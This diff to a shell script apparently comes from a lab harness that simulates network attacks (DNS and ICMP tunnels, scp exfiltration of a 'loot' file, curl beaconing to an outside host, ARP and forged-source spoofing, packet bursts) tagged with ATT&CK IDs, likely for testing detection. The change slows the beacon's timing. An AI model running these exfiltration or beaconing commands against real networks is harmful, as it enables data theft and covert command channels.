@@ -30,7 +30,7 @@ attacks=(
 	"iodine|iodine|tunnel|T1071.004|always|iodine, a tunnel in DNS"
 	"ptunnel|ptunnel|tunnel|T1095|always|ptunnel-ng, a tunnel in ping"
 	"scp|scp|exfiltration|T1048|always|scp of 200 MB to the world"
-	"beacon|beacon|beacon|T1071|always|a call every 0.8 s, shaken by 20 %"
+	"beacon|beacon|beacon|T1071|always|a call every 1.5 s, shaken by 20 %"
 	"arping|arping|spoofing|T1557.002|always|arping in the gateway's name"
 	"forged|forged|spoofing|T1557|always|hping3 with a forged source address"
 	"burst|burst|denial_burst|T1498|closed|hping3, 1500 packets against a closed door"
@@ -176,11 +176,12 @@ attack_scp() {
 	inside scp timeout 60 scp $(ssh_options) "$work/loot" "root@$world_ip:/dev/null"
 }
 
+# Slow enough that a busy machine does not shake it more than it does itself.
 attack_beacon() {
 	local i
 	for i in {1..16}; do
 		inside beacon curl -s -m 1 "http://$other_world_ip:8443/" >/dev/null
-		sleep "$(printf '0.%03d' $((640 + (i * 7919 + 13) % 320)))"
+		sleep "$(awk -v i="$i" 'BEGIN { printf "%.3f", 1.2 + (i * 7919 + 13) % 600 / 1000 }')"
 	done
 }
 
